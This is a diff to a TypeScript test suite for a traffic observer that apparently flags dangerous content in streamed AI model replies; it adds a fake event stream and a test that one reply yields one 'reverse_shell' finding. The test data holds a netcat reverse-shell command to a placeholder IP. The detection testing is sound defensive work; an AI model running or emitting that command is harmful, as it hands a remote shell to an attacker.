@@ -12,6 +12,14 @@ import { startTestProxy, type TestProxy } from '../support/proxy.js';
 const PROGRAM = new URL('../../src/sidecar/observer-program.js', import.meta.url);
 const SHELL = 'nc 203.0.113.7 4444 -e /bin/sh';
 const BIG = randomBytes(40 * 1024 * 1024);
+/** A command in pieces, then as a whole in two events more, as OpenAI's Responses interface streams a text. */
+const REPLY = [
+  ...SHELL.split(' ').map((word) => ({ type: 'response.output_text.delta', item_id: 'm', delta: `${word} ` })),
+  { type: 'response.output_text.done', item_id: 'm', text: SHELL },
+  { type: 'response.completed', response: { output: [{ content: [{ type: 'output_text', text: SHELL }] }] } },
+]
+  .map((event) => `data: ${JSON.stringify(event)}\n\n`)
+  .join('');
 const sha256 = (bytes: Uint8Array): string => createHash('sha256').update(bytes).digest('hex');
 
 /** A proxy whose flows go to a real observer thread. */
@@ -46,6 +54,8 @@ class Bench {
         };
         response.setHeader('content-length', BIG.length);
         send();
+      } else if (request.url === '/reply') {
+        response.setHeader('content-type', 'text/event-stream').end(REPLY);
       } else {
         response.end(SHELL);
       }
@@ -138,6 +148,21 @@ describe('nobody waits for the observer', () => {
     expect(total).toBeLessThan(BIG.length + 2_000);
     await bench.findsAgain();
   });
+});
+
+test('what a model says once is one finding, however often its stream says it', async () => {
+  bench = new Bench();
+  await bench.start();
+  for (const replies of [1, 2]) {
+    await curl(bench.proxy.url, [`${bench.origin.url}/reply`]);
+    await until(
+      async () => bench.closed,
+      (closed) => closed.length === replies,
+    );
+    expect(bench.drafts.map(({ pattern, location }) => [pattern, location])).toEqual(
+      Array.from({ length: replies }, () => ['reverse_shell', 'event']),
+    );
+  }
 });
 
 test('a thread that is given nonsense ends, and says so', async () => {
